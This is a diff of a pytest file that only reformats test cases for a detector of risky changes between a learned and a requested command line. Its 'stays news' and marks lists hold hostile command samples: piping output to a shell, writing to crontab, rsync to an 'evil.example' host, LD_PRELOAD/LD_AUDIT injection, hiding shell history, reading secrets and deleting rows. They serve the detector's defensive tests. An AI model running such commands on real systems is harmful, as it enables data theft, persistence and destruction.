@@ -26,9 +26,17 @@ def novel(leaf, line):
 PASSES = [
     # what the rule is about, learned, asked
     ("a port: the network's trie shows who listens", "app run", "app run --port 8081"),
-    ("a setting behind a letter tells by itself", "kcat -b k.svc", "kcat -b k.svc -X auto.offset.reset=earliest"),
+    (
+        "a setting behind a letter tells by itself",
+        "kcat -b k.svc",
+        "kcat -b k.svc -X auto.offset.reset=earliest",
+    ),
     ("a letter's off is a word", "sendmail -t", "sendmail -t -N never"),
-    ("a word with marks is no code", "ffmpeg -i /in/a.mp4", "ffmpeg -i /in/a.mp4 -movflags +faststart -map 0:a"),
+    (
+        "a word with marks is no code",
+        "ffmpeg -i /in/a.mp4",
+        "ffmpeg -i /in/a.mp4 -movflags +faststart -map 0:a",
+    ),
     ("two words that together mean something else", "mc cp a b", "mc cp --storage-class STANDARD_IA a b"),
     ("how much is told, wherever", "app run", "app run --log-level-console detail"),
     ("what happens only at a failure", "java -jar a.jar", "java -XX:+HeapDumpOnOutOfMemoryError -jar a.jar"),
@@ -49,9 +57,13 @@ PASSES = [
     ("rows written another way", "psql -c 'UPDATE a SET b = 1'", "psql -c 'INSERT INTO a VALUES (1)'"),
     ("a kind of workload", "kubectl restart deployment/a", "kubectl restart statefulset/b"),
     ("a folder where sources lie", "helm lint umbrella/a", "helm lint charts/b"),
-    ("a tool's letters by its script", "python3 -m celery -A shop worker", "python3 -m celery -A shop worker -O fair"),
+    (
+        "a tool's letters by its script",
+        "python3 -m celery -A shop worker",
+        "python3 -m celery -A shop worker -O fair",
+    ),
     ("a variable with a harmless value", "env A=1 app", "env A=1 LOG_LEVEL=debug TZ=Europe/Berlin app"),
-]  # fmt: skip
+]
 STAYS_NEWS = [
     ("an address behind a port's flag", "app run", "app run --port 203.0.113.4:80"),
     ("a port that debugs", "node a.js", "node --inspect 9229 a.js"),
@@ -80,7 +92,11 @@ STAYS_NEWS = [
     ("a key beside a key", "app -c /etc/app/a.key", "app -c /etc/app/b.key"),
     ("a neighbour at a hoster", "app --host a.mongodb.net", "app --host b.mongodb.net"),
     ("another owner's rsync server", "rsync /a m-1.files.svc::x/", "rsync /a m-1.evil.example::x/"),
-    ("a hidden option of a command", "rsync -e 'ssh -i /k/a' /a", "rsync -e 'ssh -i /k/a -o ProxyCommand=x' /a"),
+    (
+        "a hidden option of a command",
+        "rsync -e 'ssh -i /k/a' /a",
+        "rsync -e 'ssh -i /k/a -o ProxyCommand=x' /a",
+    ),
     ("another command", "rsync -e 'ssh -i /k/a' /a", "rsync -e 'sh -c id' /a"),
     ("a shell behind a pipe", "sh -c 'app run'", "sh -c 'app run | sh'"),
     ("what a pipe writes elsewhere", "sh -c 'app run'", "sh -c 'app run | tee /etc/crontab'"),
@@ -88,7 +104,11 @@ STAYS_NEWS = [
     ("rows destroyed", "psql -c 'UPDATE a SET b = 1'", "psql -c 'DELETE FROM a'"),
     ("a secret is no workload", "kubectl get deployment/a", "kubectl get secret/b"),
     ("another owner's chart", "helm lint corp/a", "helm lint evil/a"),
-    ("an application by another name", "python3 -m celery -A shop worker", "python3 -m celery -A evil worker"),
+    (
+        "an application by another name",
+        "python3 -m celery -A shop worker",
+        "python3 -m celery -A evil worker",
+    ),
     ("a variable that finds code", "env A=1 app", "env A=1 LD_AUDIT=/data/a app"),
     ("a variable that hides traces", "env A=1 app", "env A=1 HISTFILE=/dev/null app"),
     ("a protection by a digit", "env A=1 app", "env A=1 PYTHONHTTPSVERIFY=0 app"),
@@ -102,10 +122,12 @@ STAYS_NEWS = [
     ("keys by name", "find /data -name a", "find /data -name .ssh"),
     ("a loader switched on", "java -jar a.jar", "java -Dparams.loader.enabled=true -jar a.jar"),
     ("a namespace of the system", "velero restore a", "velero restore a --map shop:kube-system"),
-]  # fmt: skip
+]
 
 
-@pytest.mark.parametrize(("learned", "asked"), [case[1:] for case in PASSES], ids=[case[0] for case in PASSES])
+@pytest.mark.parametrize(
+    ("learned", "asked"), [case[1:] for case in PASSES], ids=[case[0] for case in PASSES]
+)
 def test_what_can_do_no_harm_is_no_news(learned, asked):
     """No other host, no code, no secret, no place where things are run from."""
     assert novel(leaf_of(learned), asked) == []
@@ -120,9 +142,17 @@ def test_what_could_do_harm_does_not_hide_behind_it(learned, asked):
 
 
 MARKS = [
-    ["--token", "x"], ["--privileged"], ["-o", "/etc/cron.d/x"], ["--config", "/tmp/x.conf"], ["http://203.0.113.9/x"],
-    ["--plugin", "evil"], ["--insecure"], ["x@203.0.113.9:/y"], ["LD_PRELOAD=/tmp/x.so"], ["/run/secrets/db"],
-]  # fmt: skip
+    ["--token", "x"],
+    ["--privileged"],
+    ["-o", "/etc/cron.d/x"],
+    ["--config", "/tmp/x.conf"],
+    ["http://203.0.113.9/x"],
+    ["--plugin", "evil"],
+    ["--insecure"],
+    ["x@203.0.113.9:/y"],
+    ["LD_PRELOAD=/tmp/x.so"],
+    ["/run/secrets/db"],
+]
 
 
 @given(st.sampled_from([asked for _, learned, asked in PASSES if "'" not in asked]), st.sampled_from(MARKS))
